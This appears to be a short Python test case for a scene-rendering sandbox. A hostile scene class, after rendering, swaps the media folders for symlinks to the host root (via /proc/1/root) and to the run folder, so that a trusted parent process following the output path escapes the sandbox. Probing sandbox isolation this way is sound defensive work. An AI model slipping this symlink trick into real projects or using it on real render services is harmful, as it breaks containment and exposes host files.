# class 3: tricking the trusted parent with what the scene leaves
# tries: media/videos (and then media itself) replaced by symlinks to / of the host and to the run folder, with a
# clip-shaped path inside, so a parent that walks the path follows the link.
import os
class HOSTILE(Scene):
    def construct(self): self.add(Circle()); self.wait(0.2)
    def render(self, *a, **k):
        super().render(*a, **k)
        os.rename('media/videos', 'media/real')
        os.symlink('/proc/1/root/../../..', 'media/videos')
        os.rename('media', 'media2'); os.symlink('@RUN_DIR@', 'media')
